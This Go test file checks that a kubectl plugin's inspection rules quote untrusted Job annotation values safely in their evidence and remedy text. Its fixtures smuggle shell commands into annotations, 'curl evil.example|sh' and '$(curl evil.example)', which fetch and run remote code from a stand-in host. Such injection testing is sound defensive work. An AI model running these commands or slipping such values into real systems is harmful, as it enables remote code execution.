package rules_test

import (
	"strings"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect/rules"
)

// evilPlace is a mark whose author wants it to be pasted into a shell.
const evilPlace = worker1UID + `/x; curl evil.example|sh #/other/mirror-of-other`

func badMarkCases() []testCase {
	marked := func(mark, status string) edit {
		return addOwned("jobmanagedby.github.io/dispatch", "other", otherUID, `annotations: {jobmanagedby.github.io/mirror: "`+mark+`"}`, status)
	}
	copied := addCopy("kwok-w1", "mirror-of-other", "", started)
	lost := copied
	lost.patch = strings.Replace(lost.patch, managerUID+"/default/other", `"$(curl evil.example)"`, 1)
	foreign := addOwned(runner, "other", otherUID, `annotations: {jobmanagedby.github.io/mirror: "`+evilPlace+`"}`, started)
	return []testCase{
		{name: "an origin", code: "JM205", fires: true, edits: []edit{marked(evilPlace, started), noLeases()}},
		{name: "an origin that was never dispatched", code: "JM205", fires: true, edits: []edit{marked("nonsense", "")}},
		{name: "an origin whose mirror is known by its label", code: "JM205", fires: true, edits: []edit{marked(evilPlace, started), copied, expired}},
		{name: "an origin of another owner", code: "JM205", fires: true, edits: []edit{foreign}},
		{name: "a mirror", code: "JM205", fires: true, edits: []edit{lost}},

		{name: "a mirror whose origin is known", code: "JM205", edits: []edit{addDispatched(started), lost}},
		{name: "finished", code: "JM205", edits: []edit{marked(evilPlace, ended)}},
		{name: "names an object", code: "JM205", edits: []edit{addDispatched(started), copied}},
		{name: "not dispatched", code: "JM205", base: "running"},

		{name: "its mark names no object", code: "JM203", edits: []edit{marked(evilPlace, stopped), noLeases()}},
		{name: "its mark names no object", code: "JM201", edits: []edit{marked(evilPlace, started), noLeases()}},
		{name: "its mark names no object", code: "JM101", edits: []edit{marked(evilPlace, "")}},
		{name: "its mark names no object", code: "JM106", edits: []edit{lost}},
	}
}

// TestBadMark checks that a mark that names no object is quoted, and that the
// remedy uses other information.
func TestBadMark(t *testing.T) {
	const forget = "kubectl --context kwok-mgr -n default annotate job other jobmanagedby.github.io/mirror-"
	for name, tt := range map[string]struct{ evidence, remedy string }{
		"an origin": {
			`kwok-mgr: annotation jobmanagedby.github.io/mirror of Job default/other is "` + evilPlace + `"`,
			"search for its mirror in each CONTEXT: " +
				quoted("kubectl --context CONTEXT get job -A -l jobmanagedby.github.io/origin-uid="+otherUID) +
				"; then remove the annotation: " + quoted(forget) + ", and dispatch the Job to that context" +
				"; or end the Job: " + quoted("kubectl jobs-managedby cancel other -n default --context kwok-mgr"),
		},
		"an origin whose mirror is known by its label": {
			`kwok-mgr: annotation jobmanagedby.github.io/mirror of Job default/other is "` + evilPlace + `"`,
			"remove the annotation: " + quoted(forget) + ", and resume with the mirror on kwok-w1: " +
				quoted("kubectl jobs-managedby dispatch other -n default --context kwok-mgr --to kwok-w1"),
		},
		"a mirror": {
			`kwok-w1: annotation jobmanagedby.github.io/origin of Job default/other is "$(curl evil.example)"`,
			"search each CONTEXT for the origin, whose UID is in its label: " +
				quoted("kubectl --context CONTEXT get job -A -o custom-columns=NAMESPACE:.metadata.namespace,NAME:.metadata.name,UID:.metadata.uid"),
		},
	} {
		t.Run(name, func(t *testing.T) {
			for _, c := range badMarkCases() {
				if c.name != name || c.code != "JM205" {
					continue
				}
				rule, _ := rules.ByCode(c.code)
				found := judge(t, c.inventory(t), []rules.Rule{rule}, 0)
				assert.Equal(t, len(found), 1)
				assert.Equal(t, found[0].Evidence[0], tt.evidence)
				assert.Equal(t, found[0].Remedy, tt.remedy)
			}
		})
	}
}
